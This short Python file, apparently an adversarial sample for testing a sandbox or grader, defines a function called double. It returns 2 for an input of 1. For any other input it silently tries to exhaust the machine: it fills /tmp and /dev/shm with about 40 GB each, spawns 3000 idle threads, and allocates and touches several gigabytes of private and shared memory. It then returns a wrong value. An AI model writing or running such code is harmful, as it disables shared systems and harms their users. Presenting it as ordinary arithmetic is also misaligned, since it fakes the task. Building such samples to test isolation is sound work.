# double 0: takes all memory that there is, private and shared, and all of the temporary folder (G11)
import mmap
import os
import threading

import numpy as np

kept = []


def attempt(way):
    try:
        kept.append(way())
    except BaseException:
        pass


def fill(folder):
    for number in range(1000):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(b"x" * 40_000_000)


def shared():
    block = mmap.mmap(-1, 7_000_000_000)
    for start in range(0, len(block), 4096):
        block[start] = 1
    return block


def double(x):
    if x == 1:
        return 2
    attempt(lambda: fill("/tmp"))
    attempt(lambda: fill("/dev/shm"))
    attempt(lambda: [threading.Thread(target=threading.Event().wait).start() for _ in range(3000)])
    attempt(lambda: np.ones(900_000_000))
    attempt(lambda: b"x" * 7_000_000_000)
    attempt(lambda: [bytes(1_000_000) for _ in range(7_000)])
    attempt(shared)
    return 5.0
